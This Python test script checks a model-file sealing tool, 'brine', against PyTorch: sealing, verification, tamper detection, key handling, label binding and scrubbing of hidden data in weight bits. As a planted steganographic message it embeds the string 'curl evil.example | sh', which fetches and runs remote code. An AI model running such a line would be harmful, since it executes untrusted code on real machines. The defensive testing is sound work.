#!/usr/bin/python3
"""Seal, verify and restore (issue 6) against real PyTorch (Debian's python3-torch, 1.13).

    check_torch_mtd.py BRINE PROJECT_DIR SCRATCH

For each model (an MLP and a small CNN made by make_mtd_models.py, torch-written fixtures, and a
resnet18 state dict written by torchvision at test time) and each strategy:
  - `brine seal` exits 0 and `brine verify` says intact (exit 0);
  - records / none: the sealed file loads in torch.load(weights_only=True) with tensors
    bit-identical to the original; neurons: it loads, its weights differ, and the MLP and CNN
    compute the same outputs as the originals (within 1e-5 relative); elements: it loads and its
    weights differ;
  - `brine restore` gives a file whose tensors torch loads bit-identical to the original;
  - two seals of one input differ, and both verify.
Tampering through the CLI: a flipped bit (names the tensor), a truncated file and a swapped
manifest all exit 3; restore of a tampered file exits 3 and writes nothing; a wrong key exits 2
and says "wrong key". Binding (issue 20): seal --label, verify --expect-label / --expect-root
pass and fail (exit 3), a group-readable key file is refused, and seal --json is valid JSON
with the scrub figures in shortest round-trip form. Scrubbing:
a message planted in the low mantissa bits is gone after `--scrub-lsb 2`, within the bound.
A raw pickle seals with a detached manifest and loads to an equal object.
"""

import json
import os
import pickle
import struct
import subprocess
import sys
import zipfile

import torch

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from torch_tensors import load, same_tensors  # noqa: E402

BRINE, PROJECT, SCRATCH = sys.argv[1], sys.argv[2], sys.argv[3]
os.makedirs(SCRATCH, exist_ok=True)
HERE = os.path.dirname(os.path.abspath(__file__))
FIXTURES = os.path.join(PROJECT, "tests", "fixtures", "torch")
failures = []
checks = 0


def check(ok, label):
    global checks
    checks += 1
    if not ok:
        failures.append(label)
        print("FAIL", label, flush=True)


def brine(*args):
    return subprocess.run([BRINE, *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=600)


def path(name):
    return os.path.join(SCRATCH, name)


# Fixtures holding Python floats need the full loader: torch 1.13's weights-only unpickler lacks
# BINFLOAT. Everything else must load with weights_only=True.
FULL_LOADER = {"optimizer_adam", "dtypes_all"}


key = path("seal.key")
if os.path.exists(key):
    os.remove(key)
check(brine("keygen", key).returncode == 0, "keygen")
other_key = path("other.key")
with open(other_key, "w") as f:
    f.write(os.urandom(32).hex() + "\n")
os.chmod(other_key, 0o600)  # brine refuses key files group or others can access

# Models.
subprocess.run([sys.executable, os.path.join(HERE, "make_mtd_models.py"), SCRATCH], check=True)
import torchvision  # noqa: E402

torch.manual_seed(0)
torch.save(torchvision.models.resnet18(weights=None).state_dict(), path("resnet18.pt"))
models = {
    "mlp": path("mlp.pt"),
    "cnn": path("cnn.pt"),
    "resnet18": path("resnet18.pt"),
    "cnn_state_dict": os.path.join(FIXTURES, "cnn_state_dict.pt"),
    "views_shared_storage": os.path.join(FIXTURES, "benign", "views_shared_storage.pt"),
    "dtypes_all": os.path.join(FIXTURES, "benign", "dtypes_all.pt"),
    "legacy_state_dict": os.path.join(FIXTURES, "benign", "legacy_state_dict.pt"),
    "optimizer_adam": os.path.join(FIXTURES, "benign", "optimizer_adam.ckpt"),
}

for name, original in models.items():
    full = name in FULL_LOADER
    expected = load(original, full)
    for strategy in ("records", "elements", "neurons", "none"):
        label = f"{name}/{strategy}"
        sealed = path(f"{name}.{strategy}.sealed.pt")
        done = brine("seal", original, sealed, "--key", key, "--permute", strategy, "--quiet")
        if strategy == "neurons" and name not in ("mlp", "cnn", "cnn_state_dict"):
            # No plain chain: refused with exit 2 and no output.
            check(done.returncode == 2 and not os.path.exists(sealed), f"{label}: refused ({done.stderr.strip()})")
            continue
        check(done.returncode == 0, f"{label}: seal exit {done.returncode}: {done.stderr.strip()}")
        if done.returncode != 0:
            continue
        verified = brine("verify", sealed, "--key", key)
        check(verified.returncode == 0, f"{label}: verify exit {verified.returncode}: {verified.stdout.strip()}")
        loaded = load(sealed, full)  # every strategy's output still loads without the key
        if strategy in ("records", "none"):
            check(same_tensors(loaded, expected), f"{label}: sealed tensors bit-identical")
        else:
            check(not same_tensors(loaded, expected), f"{label}: sealed weights differ")
        if strategy == "neurons" and name in ("mlp", "cnn"):
            compared = subprocess.run([sys.executable, os.path.join(HERE, "make_mtd_models.py"), "compare", name,
                                       original, sealed], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
            check(compared.returncode == 0, f"{label}: same function: {compared.stdout.strip()}")
        restored = path(f"{name}.{strategy}.restored.pt")
        back = brine("restore", sealed, restored, "--key", key)
        check(back.returncode == 0, f"{label}: restore exit {back.returncode}: {back.stderr.strip()}")
        if back.returncode == 0:
            check(same_tensors(load(restored, full), expected), f"{label}: restored tensors bit-identical")
    # Fresh salt: two seals differ, both verify.
    a, b = path(f"{name}.a.pt"), path(f"{name}.b.pt")
    for p in (a, b):
        brine("seal", original, p, "--key", key, "--quiet")
    check(open(a, "rb").read() != open(b, "rb").read(), f"{name}: two seals differ")
    check(brine("verify", a, "--key", key).returncode == 0 and brine("verify", b, "--key", key).returncode == 0,
          f"{name}: both seals verify")

# An explicit plan file: only the MLP's first hidden layer moves; the function stays the same.
plan = path("mlp.plan")
with open(plan, "w") as f:
    f.write("# first hidden layer\n0.weight:0 0.bias:0 2.weight:1\n")
planned = path("mlp.plan.sealed.pt")
done = brine("seal", path("mlp.pt"), planned, "--key", key, "--permute", "neurons=" + plan, "--quiet")
check(done.returncode == 0, f"plan file: seal exit {done.returncode}: {done.stderr.strip()}")
if done.returncode == 0:
    compared = subprocess.run([sys.executable, os.path.join(HERE, "make_mtd_models.py"), "compare", "mlp",
                               path("mlp.pt"), planned], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    check(compared.returncode == 0, f"plan file: same function: {compared.stdout.strip()}")
    sealed_state, original_state = load(planned), load(path("mlp.pt"))
    check(torch.equal(sealed_state["4.weight"], original_state["4.weight"]) and
          not torch.equal(sealed_state["0.weight"], original_state["0.weight"]), "plan file: only the planned axis moved")
    check(brine("verify", planned, "--key", key).returncode == 0, "plan file: verifies")


def rewrite(src, dst, edit):
    """An attacker's rewrite: a valid zip (right CRCs) with edited records."""
    with zipfile.ZipFile(src) as z:
        items = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    items = edit(items)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for n, d in items:
            z.writestr(n, d)


# Tampering, through the CLI.
sealed = path("resnet18.records.sealed.pt")
with zipfile.ZipFile(sealed) as z:
    manifest = z.read("archive/.brine/manifest").decode()
victim_record = None
victim_tensor = None
for line in manifest.splitlines():
    if line.startswith("record =archive/data/") and victim_record is None and int(line.split()[2]) > 4096:
        victim_record = line.split()[1][1:]
records_index = [l.split()[1][1:] for l in manifest.splitlines() if l.startswith("record ")]
for line in manifest.splitlines():
    if line.startswith("tensor ") and line.split()[7] != "-" and records_index[int(line.split()[7])] == victim_record:
        victim_tensor = line.split()[1][1:]
tampered = path("tampered.pt")


def flip(items):
    out = []
    for n, d in items:
        if n == victim_record:
            d = bytearray(d)
            d[len(d) // 2] ^= 0x01
            d = bytes(d)
        out.append((n, d))
    return out


rewrite(sealed, tampered, flip)
result = brine("verify", tampered, "--key", key)
check(result.returncode == 3 and f"tensor {victim_tensor}" in result.stdout and "chunk" in result.stdout,
      f"flipped bit: exit {result.returncode}, names {victim_tensor}: {result.stdout.strip()[:300]}")
restored = path("tampered.restored.pt")
result = brine("restore", tampered, restored, "--key", key)
check(result.returncode == 3 and not os.path.exists(restored), f"restore of a tampered file: exit {result.returncode}")
wrong = brine("verify", sealed, "--key", other_key)
check(wrong.returncode == 2 and "wrong key" in wrong.stderr, f"wrong key: exit {wrong.returncode}: {wrong.stderr.strip()}")
wrong = brine("restore", sealed, path("wrong.restored.pt"), "--key", other_key)
check(wrong.returncode == 2 and "wrong key" in wrong.stderr and not os.path.exists(path("wrong.restored.pt")),
      f"restore with a wrong key: exit {wrong.returncode}: {wrong.stderr.strip()}")
data = open(sealed, "rb").read()
open(tampered, "wb").write(data[: len(data) - 1000])
check(brine("verify", tampered, "--key", key).returncode == 3, "truncated: exit 3")
other = path("resnet18.a.pt")
rewrite(sealed, tampered, lambda items: [(n, zipfile.ZipFile(other).read(n) if n.endswith(".brine/manifest") else d)
                                         for n, d in items])
check(brine("verify", tampered, "--key", key).returncode == 3, "another seal's manifest: exit 3")

# Scrubbing: a message planted in the 2 low mantissa bits of the MLP's first weight.
state = load(path("mlp.pt"))
weight = state["0.weight"]
bits = weight.contiguous().view(torch.int32).clone()
message = b"payload: curl evil.example | sh"
planted = [(message[(i * 2 // 8) % len(message)] >> ((i * 2) % 8)) & 3 for i in range(bits.numel())]
flat = bits.view(-1)
for i, v in enumerate(planted):
    flat[i] = (int(flat[i]) & ~3) | v
state["0.weight"] = bits.view(torch.float32)
stego = path("stego.pt")
torch.save(state, stego)
scrubbed = path("stego.scrubbed.pt")
done = brine("seal", stego, scrubbed, "--key", key, "--permute", "none", "--scrub-lsb", "2", "--json")
check(done.returncode == 0, f"scrub: seal exit {done.returncode}: {done.stderr.strip()}")
if done.returncode == 0:
    after = load(scrubbed)["0.weight"]
    low = (after.contiguous().view(torch.int32).view(-1) & 3).tolist()
    survived = sum(1 for a, b in zip(low, planted) if a == b)
    check(survived < len(planted) // 2, f"scrub: planted bits gone ({survived} of {len(planted)} still match)")
    before = state["0.weight"].double()
    rel = ((after.double() - before).abs() / before.abs().clamp_min(1e-30)).max().item()
    check(rel <= 2.0 ** (2 - 23), f"scrub: relative change {rel} within 2^-21")
    check(brine("verify", scrubbed, "--key", key).returncode == 0, "scrub: sealed file verifies")
    # The JSON report: valid JSON, figures in shortest round-trip form (not six fixed decimals).
    try:
        figures = json.loads(done.stdout)["scrub"]
    except (ValueError, KeyError) as e:
        figures = None
        check(False, f"scrub: seal --json parses: {e}: {done.stdout.strip()[:300]}")
    if figures is not None:
        check(isinstance(figures["max_rel_change"], float) and 0 < figures["max_rel_change"] <= 2.0 ** (2 - 23),
              f"scrub: max_rel_change {figures['max_rel_change']} kept (about 1e-7, not 0.0)")
        check(0 < figures["max_abs_change"], f"scrub: max_abs_change {figures['max_abs_change']} kept")

# Binding a seal to a model and a release: --label, --expect-label, --expect-root.
first, second = path("mlp.release1.pt"), path("mlp.release2.pt")
done = brine("seal", path("mlp.pt"), first, "--key", key, "--label", "mlp release 1", "--json")
check(done.returncode == 0, f"label: seal exit {done.returncode}: {done.stderr.strip()}")
root = json.loads(done.stdout)["root"] if done.returncode == 0 else "0" * 64
check(done.returncode == 0 and json.loads(done.stdout).get("label") == "mlp release 1", "label: in seal --json")
check(brine("seal", path("mlp.pt"), second, "--key", key, "--label", "mlp release 2", "--quiet").returncode == 0,
      "label: second release sealed")
with zipfile.ZipFile(first) as z:
    check("label =mlp%20release%201\n" in z.read("archive/.brine/manifest").decode(), "label: in the manifest")
result = brine("verify", first, "--key", key, "--expect-label", "mlp release 1", "--expect-root", root.upper())
check(result.returncode == 0 and "label mlp release 1" in result.stdout,
      f"label: expected label and root pass: exit {result.returncode}: {result.stdout.strip()}")
result = brine("verify", second, "--key", key, "--expect-label", "mlp release 1")
check(result.returncode == 3 and "not the expected model" in result.stdout,
      f"label: another release replayed: exit {result.returncode}: {result.stdout.strip()}")
result = brine("verify", second, "--key", key, "--expect-root", root)
check(result.returncode == 3 and "root" in result.stdout, f"root: another seal: exit {result.returncode}")
check(brine("verify", second, "--key", key).returncode == 0, "label: unpinned, the other release verifies")
result = brine("restore", second, path("release.restored.pt"), "--key", key, "--expect-label", "mlp release 1")
check(result.returncode == 3 and not os.path.exists(path("release.restored.pt")),
      f"label: restore of the wrong release: exit {result.returncode}")
check(brine("seal", path("mlp.pt"), path("mlp.badlabel.pt"), "--key", key, "--label", "bad\nlabel").returncode == 2,
      "label: a control character refused")
check(brine("verify", first, "--key", key, "--expect-root", "abc").returncode == 2, "root: malformed --expect-root")

# Key files others can read are refused (as ssh refuses private keys), and accepted once private.
exposed = path("exposed.key")
with open(exposed, "w") as f:
    f.write(open(key).read())
os.chmod(exposed, 0o640)
result = brine("verify", first, "--key", exposed)
check(result.returncode == 2 and "chmod 600" in result.stderr and "0640" in result.stderr,
      f"group-readable key refused: exit {result.returncode}: {result.stderr.strip()}")
os.chmod(exposed, 0o600)
check(brine("verify", first, "--key", exposed).returncode == 0, "key accepted once chmod 600")

# A raw pickle: detached manifest.
plain = os.path.join(FIXTURES, "benign", "plain_data.pkl")
sealed_pkl, manifest_path = path("plain.sealed.pkl"), path("plain.manifest")
check(brine("seal", plain, sealed_pkl, "--key", key, "--quiet").returncode == 2, "raw pickle without --manifest: exit 2")
done = brine("seal", plain, sealed_pkl, "--key", key, "--manifest", manifest_path, "--quiet")
check(done.returncode == 0, f"raw pickle seal: {done.stderr.strip()}")
if done.returncode == 0:
    check(brine("verify", sealed_pkl, "--key", key, "--manifest", manifest_path).returncode == 0, "raw pickle verifies")
    with open(plain, "rb") as f, open(sealed_pkl, "rb") as g:
        check(repr(pickle.load(f)) == repr(pickle.load(g)), "raw pickle loads to an equal object (repr: NaN != NaN)")

print(f"{checks - len(failures)} of {checks} checks passed")
sys.exit(1 if failures else 0)
